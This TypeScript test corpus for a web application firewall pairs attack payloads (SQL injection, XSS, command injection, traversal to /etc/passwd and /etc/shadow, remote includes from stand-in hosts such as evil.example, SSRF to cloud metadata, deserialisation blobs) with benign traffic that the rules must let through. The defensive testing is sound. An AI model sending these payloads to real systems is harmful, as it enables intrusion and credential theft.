// Requests for the Managed Ruleset's attack rules (issue 40, point 5): one payload per family, placed in
// each part of a request the family's rules read, and a benign corpus of ordinary traffic that must pass.

/** A request as the proxy tests and bench/managed-ruleset-tools.ts send it. */
export interface CorpusRequest {
  method: 'GET' | 'POST';
  path: string;
  headers: Record<string, string>;
  body?: string;
}

export type Part = 'query' | 'form' | 'json' | 'multipart' | 'xml' | 'header' | 'cookie';

const enc = encodeURIComponent;
const xmlEscape = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/** The value placed in the given part of a request. */
export function placed(part: Part, value: string): CorpusRequest {
  switch (part) {
    case 'query':
      return { method: 'GET', path: `/item?id=${enc(value)}`, headers: {} };
    case 'form':
      return {
        method: 'POST',
        path: '/login',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: `user=${enc(value)}&password=x`,
      };
    case 'json':
      return {
        method: 'POST',
        path: '/api/items',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ filter: { name: value, tags: ['a', value] }, limit: 5 }),
      };
    case 'multipart':
      return {
        method: 'POST',
        path: '/upload',
        headers: { 'content-type': 'multipart/form-data; boundary=XyZ' },
        body: `--XyZ\r\nContent-Disposition: form-data; name="comment"\r\n\r\n${value}\r\n--XyZ--\r\n`,
      };
    case 'xml':
      return {
        method: 'POST',
        path: '/soap',
        headers: { 'content-type': 'application/xml' },
        body: `<?xml version="1.0"?><order><note>${xmlEscape(value)}</note></order>`,
      };
    case 'header':
      return {
        method: 'GET',
        path: '/',
        headers: { 'user-agent': value.replace(/\r/g, '%0D').replace(/\n/g, '%0A').replace(/\0/g, '%00') },
      };
    case 'cookie':
      return { method: 'GET', path: '/', headers: { cookie: `session=abc; pref=${enc(value)}` } };
  }
}

export const BODY_PARTS: readonly Part[] = ['form', 'json', 'multipart', 'xml'];
const EVERYWHERE: readonly Part[] = ['query', ...BODY_PARTS, 'header', 'cookie'];
const URL_PARAMS: readonly Part[] = ['query', ...BODY_PARTS];

/** Attack families: payloads (what sqlmap, wapiti and common exploits send) and the parts they are blocked in. */
export const ATTACK_FAMILIES: Record<string, { payloads: string[]; parts: readonly Part[] }> = {
  sqli: {
    payloads: [
      "1' OR '1'='1",
      '1 AND 5183=5183',
      '1--x\nAND--x\n1=2',
      "-1' UNION SELECT username,password FROM users-- -",
      '1) AND SLEEP(5)-- x',
      ";waitfor/**/delay/**/'0:0:7'--1",
      'alice\u00bf\'"(',
      '1(.\'),(.".',
      '-5048"--dsnuX\nWHERE--CsOpt\n3291=3291--kpAU\nOR--sfsU\n3781=(SELECT--MVGH\n(CASE',
    ],
    parts: EVERYWHERE,
  },
  xss: {
    payloads: [
      '<script>alert(document.cookie)</script>',
      '"><img src=x onerror=alert(1)>',
      '<svg/onload=alert(1)>',
      '<scr<script>ipt>(alert)(/w4p1t1x55/)//</scr</script>ipt>',
    ],
    parts: EVERYWHERE,
  },
  'command execution': {
    payloads: [
      '/e\0',
      ';id',
      '|id',
      '&set&',
      '$(cat /etc/hostname)',
      'a`sleep 60`',
      'a;env;',
      '&ping -n 25 127.0.0.1&',
    ],
    parts: EVERYWHERE,
  },
  'traversal and LFI': {
    payloads: [
      '../../../../etc/passwd',
      '/etc/services',
      '..%2F..%2F..%2Fetc%2Fshadow',
      'C:\\Windows\\System32\\drivers\\etc\\services',
    ],
    parts: EVERYWHERE,
  },
  RFI: {
    payloads: [
      'http://203.0.113.7/shell.txt?',
      'php://filter/convert.base64-encode/resource=index.php',
      'https://evil.example/e.php',
    ],
    parts: URL_PARAMS,
  },
  SSRF: {
    payloads: [
      'http://169.254.169.254/latest/meta-data/iam/',
      'http://127.0.0.1:6379/',
      'gopher://localhost:25/_HELO',
      'http://0x7f000001/admin',
    ],
    parts: URL_PARAMS,
  },
  deserialisation: {
    payloads: [
      'O:8:"Example":1:{s:4:"file";s:11:"/tmp/x.php";}',
      'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==',
      'AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=',
    ],
    parts: ['query', ...BODY_PARTS, 'cookie'],
  },
};

const json = (path: string, body: unknown): CorpusRequest => ({
  method: 'POST',
  path,
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(body),
});
const form = (path: string, fields: Record<string, string>): CorpusRequest => ({
  method: 'POST',
  path,
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  body: new URLSearchParams(fields).toString(),
});
const get = (path: string, headers: Record<string, string> = {}): CorpusRequest => ({
  method: 'GET',
  path,
  headers,
});
const search = (q: string) => get(`/search?q=${enc(q)}`);

const MARKDOWN = `# Trip report

We hiked the **north ridge** on Saturday - about 12 km, 800 m up.

- Bring water (2 l each)
- The hut's kitchen is open 8:00-20:00
- Don't forget: the last bus leaves at 18:15!

> "Best view in the valley," said O'Brien.

See [the map](https://maps.example.com/ridge?zoom=12&lat=46.5) and \`gpx\` file attached. 1 or 2 people per tent; select a dress code of "casual".`;

/** Ordinary traffic: forms, JSON APIs, Markdown, search phrases with SQL words and apostrophes. */
export const BENIGN: Record<string, CorpusRequest> = {
  "search: O'Brien": search("O'Brien"),
  'search: select a dress': search('select a dress'),
  'search: drop-down menu': search('drop-down menu'),
  'search: 1 or 2 people': search('1 or 2 people'),
  'search: union station to times square': search('union station to times square'),
  "search: rock 'n' roll": search("rock 'n' roll"),
  'search: where is my order?': search('where is my order?'),
  'search: delete my account': search('delete my account'),
  'search: insert coin; update firmware': search('insert coin; update firmware'),
  'search: Tom & Jerry': search('Tom & Jerry'),
  'search: fish & chips; set menu': search('fish & chips; set menu'),
  'search: 5\' 11" height': search('5\' 11" height'),
  'search: SELECT vs JOIN tutorial': search('SELECT vs JOIN tutorial'),
  'search: sleep well tips': search('sleep well tips'),
  'search: cat & dog | pets': search('cat & dog | pets'),
  'search: price < 20 and > 5': search('price < 20 and > 5'),
  'page: product listing': get('/products?category=tents&sort=price-asc&page=2&per_page=24'),
  'page: tracking parameters': get(
    '/?utm_source=newsletter&utm_medium=email&utm_campaign=winter-sale&fbclid=IwAR2x',
  ),
  'page: redirect after login': get('/login?next=%2Faccount%2Forders%3Fpage%3D2'),
  'page: a site URL parameter': get('/share?url=https%3A%2F%2Fwww.example.com%2Fblog%2Fpost-1'),
  'form: contact': form('/contact', {
    name: "Siobhán O'Brien",
    email: 'siobhan@example.com',
    message: "Hi! I'd like to book 2 rooms from 3-5 June; is breakfast included? Thanks & regards.",
  }),
  'form: login': form('/login', { user: 'alice@example.com', password: "p@ss'w0rd;--!" }),
  'form: address': form('/checkout', {
    street: "12 Rue de l'Église",
    city: 'Saint-Étienne',
    phone: '+33 4 77 00 00 00',
    notes: 'Leave at the back door (code #1234)',
  }),
  'form: markdown comment': form('/comment', { text: MARKDOWN }),
  'JSON: order': json('/api/orders', {
    customer: { name: "D'Angelo Smith", email: 'd@example.com' },
    items: [
      { sku: 'TENT-2P', qty: 1, price: 249.99 },
      { sku: 'STOVE', qty: 2, price: 45 },
    ],
    gift: false,
    note: 'Please select a dress-size bag & drop it off by 5pm; "fragile"',
  }),
  'JSON: markdown post': json('/api/posts', {
    title: 'Trip report',
    body: MARKDOWN,
    tags: ['hiking', 'alps'],
  }),
  'JSON: search filters': json('/api/search', {
    q: 'union square or times square',
    filters: { open: true, rating: { gte: 4 } },
    limit: 20,
  }),
  'JSON: webhook to a public URL': json('/api/hooks', {
    url: 'https://hooks.example.com/cairn',
    events: ['order.created'],
  }),
  'JSON: nested empty values': json('/api/settings', { a: {}, b: [], c: '', d: null, e: [[[]]] }),
  'multipart: profile with a file': {
    method: 'POST',
    path: '/profile',
    headers: { 'content-type': 'multipart/form-data; boundary=b0undary' },
    body:
      '--b0undary\r\nContent-Disposition: form-data; name="bio"\r\n\r\nI\'m a climber & cook; 1 or 2 trips a year.\r\n' +
      '--b0undary\r\nContent-Disposition: form-data; name="avatar"; filename="me.png"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n;id|../../\r\n--b0undary--\r\n',
  },
  'XML: SOAP order': {
    method: 'POST',
    path: '/soap',
    headers: { 'content-type': 'text/xml' },
    body: '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><order id="42"><customer>O&apos;Brien</customer><note>select a dress &amp; drop-down menu</note></order></soap:Body></soap:Envelope>',
  },
  'headers: browser': get('/', {
    'user-agent':
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
    referer: 'https://www.example.com/search?q=O%27Brien+%26+sons',
    cookie:
      '_ga=GA1.2.123456789.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-DEF_123; theme=dark',
    'x-requested-with': 'XMLHttpRequest',
    traceparent: '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
  }),
  'headers: API client': get('/api/items?limit=10', {
    'user-agent': 'python-requests/2.31.0',
    'x-api-key': 'k_live_3f9a0c1e',
    'x-forwarded-for': '198.51.100.7, 10.0.0.1',
  }),
};
